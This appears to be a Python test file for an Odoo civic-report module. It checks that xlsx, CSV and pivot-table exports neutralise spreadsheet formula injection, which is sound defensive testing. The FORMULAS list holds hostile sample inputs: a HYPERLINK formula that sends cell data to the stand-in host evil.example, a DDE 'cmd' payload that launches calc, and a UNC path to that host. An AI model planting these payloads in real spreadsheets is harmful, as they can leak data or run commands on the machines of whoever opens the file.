import csv
import io
import json

from openpyxl import load_workbook

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from ..rig.common import CivicCase

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A2,"Xem ảnh")',
    "+84912345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=1+1}",
    "x;=cmd|' /C calc'!A0",
    "external:\\\\evil.example\\share",
    "http://evil.example/",
)
# What no cell of a CSV file may begin with (OWASP, CSV Injection).
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@tagged("-at_install", "post_install")
class TestExport(CivicCase, HttpCase):
    """What people typed stays text in every spreadsheet that is taken from here."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.operator.group_ids += cls.env.ref("base.group_allow_export")
        reports = cls.env["civic.report"].with_user(cls.operator)
        cls.reports = reports.create([cls.report_values() for _words in FORMULAS])
        cls.env.flush_all()
        for report, words in zip(cls.reports, FORMULAS, strict=True):
            # Some of it is cleaned away when it comes in; older rows may hold it.
            cls.env.cr.execute(
                "UPDATE civic_report SET subject = %s WHERE id = %s", [words, report.id]
            )
        cls.env.invalidate_all()

    def setUp(self):
        super().setUp()
        self.authenticate(self.operator.login, self.operator.login)

    def export(self, kind, names=("subject",), **params):
        """The answer to Odoo's export dialog, as bytes."""
        data = {
            "model": "civic.report",
            "fields": [
                {"name": name, "label": name, "type": "char", "store": True}
                for name in names
            ],
            "ids": self.reports.ids,
            "domain": [],
            "import_compat": False,
            "context": {},
            **params,
        }
        return self.post(f"/web/export/{kind}", data)

    def post(self, path, data):
        token = Request.csrf_token(self)
        answer = self.url_open(path, {"data": json.dumps(data), "csrf_token": token})
        self.assertEqual(answer.status_code, 200, answer.text[:300])
        return answer.content

    def cells(self, content):
        [sheet] = load_workbook(io.BytesIO(content)).worksheets
        cells = [cell for row in sheet.iter_rows() for cell in row]
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", cell.value)
            self.assertFalse(cell.hyperlink, cell.value)
        return [cell.value for cell in cells if cell.value is not None]

    def as_in_cells(self):
        """The formulas as the sheet holds them; Odoo makes spaces of returns."""
        return {words.replace("\r", " ") for words in FORMULAS}

    def assertText(self, content):
        """No cell of a CSV file is a formula, for a spreadsheet of any country."""
        text = content.decode()
        [_names, *rows] = csv.reader(io.StringIO(text, newline=""))
        for cell in (cell for row in rows for cell in row):
            self.assertFalse(cell.startswith(STARTS), cell)
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for cell in row[1:]:
                self.assertFalse(cell.lstrip().startswith(STARTS), cell)
        return [row[0] for row in rows]

    # ------------------------------------------------------------------
    # Odoo's export dialog
    # ------------------------------------------------------------------

    def test_a_sheet_holds_the_words_themselves(self):
        cells = self.cells(self.export("xlsx"))
        self.assertLessEqual(self.as_in_cells(), set(cells))

    def test_groups_of_a_sheet(self):
        cells = self.cells(self.export("xlsx", groupby=["subject"]))
        self.assertLessEqual(self.as_in_cells(), set(cells))
        self.assertIn(f"{FORMULAS[0]} (1)", cells)

    def test_a_file_of_commas(self):
        rows = self.assertText(self.export("csv"))
        self.assertEqual(len(rows), len(FORMULAS))
        self.assertIn(f"'{FORMULAS[0]}", rows)
        self.assertIn("'+84912345678", rows)
        self.assertIn("http://evil.example/", rows)

    def test_names_of_columns(self):
        for kind in ("xlsx", "csv"):
            field = {"name": "subject", "label": "=1+1", "type": "char"}
            content = self.export(kind, fields=[field])
            if kind == "xlsx":
                self.assertIn("=1+1", self.cells(content))
            else:
                self.assertIn(b'"\'=1+1"', content)

    def test_numbers_stay_numbers(self):
        self.reports[0].sudo().latitude = -5.5
        names = ["latitude"]
        self.assertIn(-5.5, self.cells(self.export("xlsx", names)))
        self.assertIn('"-5.5"', self.export("csv", names).decode())

    # ------------------------------------------------------------------
    # By the way of other apps
    # ------------------------------------------------------------------

    def test_rows_of_other_apps_about_ours(self):
        activities = self.env["mail.activity"].with_context(
            mail_activity_quick_update=True
        )
        activities = activities.create(
            {
                "res_model_id": self.env["ir.model"]._get_id("civic.report"),
                "res_id": self.reports[0].id,
                "summary": FORMULAS[0],
                "user_id": self.operator.id,
                "activity_type_id": self.env.ref("mail.mail_activity_data_todo").id,
            }
        )
        about = {"model": "mail.activity", "ids": activities.ids}
        self.assertIn(
            FORMULAS[0], self.cells(self.export("xlsx", ["summary"], **about))
        )
        self.assertText(self.export("csv", ["summary"], **about))
        for chosen in (
            {"ids": activities.ids},
            {"ids": [], "domain": [("id", ">", 0)]},
        ):
            content = self.export("xlsx", ["summary"], **{**about, **chosen})
            self.assertIn(FORMULAS[0], self.cells(content))

    def test_fields_that_lead_to_ours(self):
        self.procedure.name = "=1+1"
        self.env.flush_all()
        admin = self.env.ref("base.user_admin")
        admin.group_ids += self.env.ref("base.group_allow_export")
        admin.password = admin.login
        self.authenticate("admin", "admin")
        about = {"model": "res.company", "ids": self.env.company.ids}
        for name in ("civic_procedure_id", "civic_procedure_id/name"):
            with self.subTest(name=name):
                self.assertIn("=1+1", self.cells(self.export("xlsx", [name], **about)))

    def test_other_apps_export_as_they_did(self):
        partner = self.env["res.partner"].create({"name": "=1+1", "ref": "@x;=1"})
        about = {"model": "res.partner", "ids": partner.ids}
        sheet = load_workbook(
            io.BytesIO(self.export("xlsx", ["name"], **about))
        ).worksheets[0]
        self.assertEqual(sheet["A2"].data_type, "f")
        self.assertIn(b'"@x;=1"', self.export("csv", ["ref"], **about))

    # ------------------------------------------------------------------
    # Pivot tables
    # ------------------------------------------------------------------

    def pivot(self, model):
        def head(title):
            return {"title": title, "width": 1, "height": 1, "is_bold": False}

        table = {
            "title": "Phản ánh",
            "model": model,
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[head(words) for words in FORMULAS]],
            "measure_headers": [head(words) for words in FORMULAS],
            "rows": [
                {"title": words, "indent": indent, "values": [{"value": 5}]}
                for words in FORMULAS
                for indent in (0, 1)
            ]
            + [{"title": "Tổng", "indent": 0, "values": [{"value": FORMULAS[0]}]}],
        }
        return self.post("/web/pivot/export_xlsx", table)

    def test_pivot_tables(self):
        cells = self.cells(self.pivot("civic.report"))
        self.assertIn(f"'{FORMULAS[0]}", cells)
        self.assertIn(5, cells)

    def test_pivot_tables_of_other_apps(self):
        sheet = load_workbook(io.BytesIO(self.pivot("res.partner"))).worksheets[0]
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
        self.assertIn("f", kinds)

    # ------------------------------------------------------------------
    # Our own
    # ------------------------------------------------------------------

    def test_open_data(self):
        self.category.name = "=1+1"
        self.walk_to("done", self.make_report(visibility="public"))
        self.env.flush_all()
        answer = self.url_open("/phan-anh/thong-ke.csv")
        rows = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
        self.assertFalse([row for row in rows if row[0].startswith(STARTS)])
